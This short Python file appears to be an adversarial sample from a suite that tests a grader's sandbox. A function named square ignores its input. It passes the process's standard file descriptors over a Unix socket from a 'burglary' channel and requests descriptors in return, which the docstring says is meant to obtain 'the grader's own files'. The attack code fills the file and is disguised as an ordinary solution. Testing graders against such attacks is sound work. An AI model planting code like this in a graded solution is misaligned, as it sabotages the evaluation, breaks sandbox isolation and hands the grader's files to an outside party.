"""Hands open files to the other end of the channel, and asks for some.

Gains: the grader's own files
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""

import array
import os
import socket

from burglary import channel


def square(x):
    found = socket.socket(fileno=os.dup(channel()))
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))]
    found.sendmsg([b"\0" * 12], rights)
    return found.recvmsg(1 << 16, 1 << 12)
